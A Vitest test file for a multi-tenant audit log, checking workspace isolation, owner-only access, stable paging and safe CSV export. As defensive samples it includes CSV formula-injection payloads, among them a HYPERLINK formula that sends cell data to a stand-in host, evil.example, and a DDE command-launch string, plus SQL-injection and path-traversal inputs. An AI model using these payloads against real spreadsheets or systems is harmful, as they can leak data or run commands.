/**
 * The audit log as owners read it: only their workspace's events, through the
 * page's data, the JSON route and the CSV export, whatever the filters say;
 * owners only; keyset pages that hold still while events are written; and a
 * CSV that a spreadsheet reads as text.
 */
import { randomUUID } from "node:crypto";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import { ZodError } from "zod";
import { auditCsv, auditFilterOptions, listAuditEvents, parseAuditQuery, AUDIT_CSV_MAX_ROWS } from "@/lib/accounts/audit-log";
import type { AuditQuery } from "@/lib/api/audit-schemas";
import { recordAudit } from "@/lib/audit";
import { createApiToken } from "@/lib/auth/api-tokens";
import { db } from "@/lib/db";
import { ForbiddenError, ValidationError } from "@/lib/errors";
import { createSite } from "@/lib/sites/sites";
import { actorFor, type TenantActor } from "@/lib/tenancy/access";
import { newAccount } from "@/tests/support/accounts";
import * as auditRoute from "@/app/api/tenants/[tenant]/audit/route";

let alice: TenantActor;
let mallory: TenantActor;
let aliceId: string;
let malloryId: string;
/** Ids of every event of Mallory's workspace: none may ever reach Alice. */
let malloryEventIds: Set<string>;

async function csvText(actor: TenantActor, query: AuditQuery = {}): Promise<{ text: string; truncated: boolean }> {
  const csv = await auditCsv(actor, query);
  return { text: await new Response(csv.body).text(), truncated: csv.truncated };
}

async function allPages(actor: TenantActor, query: AuditQuery, limit: number): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | undefined;
  for (;;) {
    const page = await listAuditEvents(actor, { ...query, limit, cursor });
    ids.push(...page.events.map((e) => e.id));
    if (!page.nextCursor) return ids;
    cursor = page.nextCursor;
  }
}

beforeAll(async () => {
  ({ actor: alice, userId: aliceId } = await newAccount("audit-alice"));
  ({ actor: mallory, userId: malloryId } = await newAccount("audit-mallory"));
  // Both workspaces have a site of the same name, and Alice also belongs to
  // Mallory's workspace and acts there: the same person, action and site
  // appear on both sides, so only the workspace tells them apart.
  await createSite(alice, { name: "shared" }, "198.51.100.1");
  await createSite(mallory, { name: "shared" }, "198.51.100.2");
  await db().membership.create({ data: { userId: aliceId, tenantId: mallory.tenantId, role: "member" } });
  const aliceInMallory = await actorFor(aliceId, mallory.tenantSlug);
  await createSite(aliceInMallory, { name: "planted" }, "198.51.100.3");
  await recordAudit({
    action: "site.settings",
    outcome: "success",
    tenantId: mallory.tenantId,
    actorId: aliceId,
    target: "shared",
    details: { secret: "mallory-only" },
  });
  const rows = await db().auditEvent.findMany({ where: { tenantId: mallory.tenantId }, select: { id: true } });
  malloryEventIds = new Set(rows.map((r) => r.id));
  expect(malloryEventIds.size).toBeGreaterThanOrEqual(4);
});

describe("tenant isolation", () => {
  const filters: AuditQuery[] = [{}, { site: "shared" }, { site: "planted" }, { action: "site.create" }, { action: "site.settings" }, { person: "" as never }];

  it("never shows another workspace's events, in the page data or the JSON, with any filter", async () => {
    const tried = [...filters, { person: aliceId }, { person: malloryId }, { person: aliceId, site: "shared", action: "site.settings" }];
    for (const query of tried) {
      const parsed = parseAuditQuery(query as Record<string, string>);
      const events = await allPages(alice, parsed, 2);
      expect(
        events.filter((id) => malloryEventIds.has(id)),
        JSON.stringify(query),
      ).toEqual([]);
    }
    // Alice's own site.create is there, and the page's filter choices hold nothing of Mallory's either.
    const own = await listAuditEvents(alice, { action: "site.create" });
    expect(own.events.map((e) => e.site)).toEqual(["shared"]);
    const options = await auditFilterOptions(alice);
    expect(options.sites).toEqual(["shared"]);
    expect(options.people.map((p) => p.value)).not.toContain(malloryId);
    expect(JSON.stringify(options)).not.toContain("planted");
  });

  it("never exports another workspace's events as CSV, with any filter", async () => {
    for (const query of [...filters, { person: aliceId }, { site: "shared", person: aliceId }]) {
      const { text } = await csvText(alice, parseAuditQuery(query as Record<string, string>));
      for (const id of malloryEventIds) expect(text, JSON.stringify(query)).not.toContain(id);
      expect(text).not.toContain("mallory-only");
      expect(text).not.toContain("planted");
    }
  });

  it("a cursor taken from another workspace's page reads only the caller's own events", async () => {
    const theirs = await listAuditEvents(mallory, { limit: 1 });
    expect(theirs.nextCursor).not.toBeNull();
    const page = await listAuditEvents(alice, { cursor: theirs.nextCursor! });
    expect(page.events.filter((e) => malloryEventIds.has(e.id))).toEqual([]);
  });
});

describe("owners only", () => {
  it("refuses a member, in every reading function", async () => {
    const aliceInMallory = await actorFor(aliceId, mallory.tenantSlug);
    expect(aliceInMallory.role).toBe("member");
    await expect(listAuditEvents(aliceInMallory, {})).rejects.toBeInstanceOf(ForbiddenError);
    await expect(auditCsv(aliceInMallory, {})).rejects.toBeInstanceOf(ForbiddenError);
    await expect(auditFilterOptions(aliceInMallory)).rejects.toBeInstanceOf(ForbiddenError);
  });

  it("through the route: an API token gets 403 (even an owner's, with every scope), another workspace's slug 404", async () => {
    const { token } = await createApiToken(alice, { name: "audit-reader", scopes: ["read", "deploy"] }, null);
    const call = async (tenant: string, query = "") => {
      const response = await auditRoute.GET(
        new NextRequest(`http://localhost:3000/api/tenants/${tenant}/audit${query}`, { headers: { authorization: `Bearer ${token}` } }),
        { params: Promise.resolve({ tenant }) },
      );
      return { status: response.status, body: await response.text() };
    };
    for (const query of ["", "?format=csv", "?person=nope&site=shared"]) {
      const own = await call(alice.tenantSlug, query);
      expect(own.status, query).toBe(403);
      expect(JSON.parse(own.body)).toMatchObject({ error: { code: "token_not_allowed" } });
      const other = await call(mallory.tenantSlug, query);
      expect(other.status, query).toBe(404);
      expect(other.body).not.toContain("shared");
    }
  });
});

describe("filters and pages", () => {
  let owner: TenantActor;
  let ownerId: string;
  let ids: string[];
  const at = new Date("2026-11-30T12:00:00.000Z");

  beforeAll(async () => {
    ({ actor: owner, userId: ownerId } = await newAccount("audit-pages"));
    await db().auditEvent.deleteMany({ where: { tenantId: owner.tenantId } });
    // Twelve events, five of them at the very same millisecond: only the id orders those.
    const rows = Array.from({ length: 12 }, (_, i) => ({
      id: `audit-page-${owner.tenantId}-${String(i).padStart(2, "0")}-${randomUUID().slice(0, 4)}`,
      tenantId: owner.tenantId,
      actorId: i % 3 === 0 ? null : ownerId,
      action: i % 2 === 0 ? "deploy.upload" : "site.settings",
      target: i % 4 === 0 ? "blog" : "docs",
      outcome: i === 5 ? "failure" : "success",
      createdAt: i < 5 ? at : new Date(at.getTime() - i * 1000),
      details: i % 3 === 0 ? { tokenId: "tok-1", tokenName: "ci" } : undefined,
    }));
    await db().auditEvent.createMany({ data: rows });
    ids = (await db().auditEvent.findMany({ where: { tenantId: owner.tenantId }, orderBy: [{ createdAt: "desc" }, { id: "desc" }], select: { id: true } })).map(
      (r) => r.id,
    );
    expect(ids).toHaveLength(12);
  });

  it("pages newest first, every event once, ties included, whatever the page size", async () => {
    for (const limit of [1, 2, 5, 12, 100]) expect(await allPages(owner, {}, limit), `limit ${limit}`).toEqual(ids);
  });

  it("holds still while events are written: the next page is the one the cursor pointed at", async () => {
    const first = await listAuditEvents(owner, { limit: 4 });
    for (let i = 0; i < 3; i += 1)
      await recordAudit({ action: "site.create", outcome: "success", tenantId: owner.tenantId, actorId: ownerId, target: `new-${i}` });
    const second = await listAuditEvents(owner, { limit: 4, cursor: first.nextCursor! });
    expect([...first.events, ...second.events].map((e) => e.id)).toEqual(ids.slice(0, 8));
    await db().auditEvent.deleteMany({ where: { tenantId: owner.tenantId, action: "site.create" } });
  });

  it("filters by person, token, action and site, together and paged", async () => {
    const expectIds = async (query: AuditQuery, pick: (i: number) => boolean) => {
      const expected = ids.filter((id) => pick(Number(id.split("-").at(-2))));
      expect(await allPages(owner, query, 2), JSON.stringify(query)).toEqual(expected);
    };
    await expectIds({ person: ownerId }, (i) => i % 3 !== 0);
    await expectIds({ person: "token:tok-1" }, (i) => i % 3 === 0);
    await expectIds({ action: "deploy.upload" }, (i) => i % 2 === 0);
    await expectIds({ site: "blog" }, (i) => i % 4 === 0);
    await expectIds({ site: "docs", action: "site.settings", person: ownerId }, (i) => i % 4 !== 0 && i % 2 === 1 && i % 3 !== 0);
    const page = await listAuditEvents(owner, { person: "token:tok-1", site: "blog", limit: 1 });
    expect(page.events[0]).toMatchObject({ site: "blog", actor: { userId: null, tokenId: "tok-1", tokenName: "ci" } });
  });

  it("refuses a bad filter or cursor with its field named, and reads nothing", async () => {
    for (const raw of [
      { person: "x'; DROP TABLE" },
      { action: "DEPLOY" },
      { site: "../etc" },
      { limit: "0" },
      { limit: "101" },
      { format: "xlsx" },
      { cursor: "a+b" },
    ]) {
      expect(() => parseAuditQuery(raw), JSON.stringify(raw)).toThrow(ZodError);
    }
    for (const cursor of [Buffer.from("not a time|x").toString("base64url"), Buffer.from("2026-11-30T12:00:00.000Z").toString("base64url"), "AAAA"]) {
      await expect(listAuditEvents(owner, { cursor }), cursor).rejects.toBeInstanceOf(ValidationError);
      await expect(auditCsv(owner, { cursor }), cursor).rejects.toBeInstanceOf(ValidationError);
    }
  });
});

describe("CSV", () => {
  let owner: TenantActor;

  beforeAll(async () => {
    ({ actor: owner } = await newAccount("audit-csv"));
    await db().auditEvent.deleteMany({ where: { tenantId: owner.tenantId } });
  });

  it("quotes by RFC 4180 and defuses formulas: every cell starting with = + - @ tab or CR gets a '", async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "\tTAB",
      "\rCR",
      'plain, with "quotes"\nand a newline',
    ];
    const at = new Date("2026-11-29T08:00:00.000Z");
    await db().auditEvent.createMany({
      data: hostile.map((target, i) => ({
        id: `csv-${owner.tenantId}-${i}`,
        tenantId: owner.tenantId,
        action: "site.settings",
        outcome: "success",
        target,
        createdAt: new Date(at.getTime() - i * 1000),
      })),
    });
    const { text, truncated } = await csvText(owner);
    expect(truncated).toBe(false);
    const lines = text.split("\r\n");
    expect(lines[0]).toBe("id,time,action,outcome,person,email,token,site,target,ip,details");
    const cells = [
      `"'=HYPERLINK(""http://evil.example/?x""&A1,""click"")"`,
      `'+1+cmd|' /C calc'!A0`,
      `'-2+3`,
      `'@SUM(A1:A9)`,
      `'\tTAB`,
      `"'\rCR"`,
      `"plain, with ""quotes""\nand a newline"`,
    ];
    for (const [i, cell] of cells.entries()) {
      const time = new Date(at.getTime() - i * 1000).toISOString();
      expect(text, hostile[i]).toContain(`csv-${owner.tenantId}-${i},${time},site.settings,success,,,,${cell},${cell},,\r\n`);
    }
  });

  it("stops at the cap and says so", async () => {
    const { actor: busy } = await newAccount("audit-cap");
    await db().auditEvent.deleteMany({ where: { tenantId: busy.tenantId } });
    const start = Date.parse("2026-10-01T00:00:00.000Z");
    await db().auditEvent.createMany({
      data: Array.from({ length: AUDIT_CSV_MAX_ROWS + 5 }, (_, i) => ({
        tenantId: busy.tenantId,
        action: "deploy.upload",
        outcome: "success",
        target: "blog",
        createdAt: new Date(start + i),
      })),
    });
    const { text, truncated } = await csvText(busy);
    expect(truncated).toBe(true);
    const rows = text.split("\r\n").filter(Boolean);
    expect(rows).toHaveLength(AUDIT_CSV_MAX_ROWS + 1);
    expect(new Set(rows.slice(1).map((row) => row.split(",")[0])).size).toBe(AUDIT_CSV_MAX_ROWS);
    // Newest first: the five oldest are the ones left out.
    expect(rows.at(-1)).toContain(new Date(start + 5).toISOString());
  });
});
